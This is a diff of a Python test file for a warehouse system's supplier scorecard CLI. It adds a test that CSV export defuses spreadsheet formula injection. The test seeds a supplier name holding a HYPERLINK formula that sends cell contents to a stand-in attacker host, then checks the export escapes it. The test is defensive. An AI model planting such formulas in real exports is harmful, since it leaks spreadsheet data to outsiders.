@@ -84,6 +84,24 @@ def test_the_scorecard_counts_what_the_terminal_received(
     as_csv = CliRunner().invoke(app, ["hub", "scorecard", "--csv"], env=env)
     rows = list(csv.DictReader(io.StringIO(as_csv.output)))
     assert {r["supplier"] for r in rows} == {"Nordic Dairy AB", "Maison Beaute"}
-    assert next(r for r in rows if r["supplier"] == "Nordic Dairy AB")["receipts"] == "2"
+    nordic_row = next(r for r in rows if r["supplier"] == "Nordic Dairy AB")
+    assert nordic_row["n_receipts"] == "2"
+    assert float(nordic_row["on_time"]) == pytest.approx(nordic["indicators"]["on_time"])
+    assert nordic_row["n_on_time"] == "1"
     bad = CliRunner().invoke(app, ["hub", "scorecard", "--period", "2026-Q9"], env=env)
     assert bad.exit_code == 2
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula(hub_engine: Engine, hub_db: str) -> None:
+    from wms.hub.documents import save
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
+    with hub_engine.begin() as conn:
+        receipt = {"number": "PO-EVIL", "supplier": evil, "dock": "DOCK-01", "lines": []}
+        save(conn, "DEMO", "receipt", receipt)
+    env = {"WMS_HUB_DATABASE_URL": hub_db}
+    as_csv = CliRunner().invoke(app, ["hub", "scorecard", "--csv"], env=env)
+    assert as_csv.exit_code == 0, as_csv.output
+    rows = list(csv.DictReader(io.StringIO(as_csv.output)))
+    assert "'" + evil in {r["supplier"] for r in rows}
+    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values() if v)
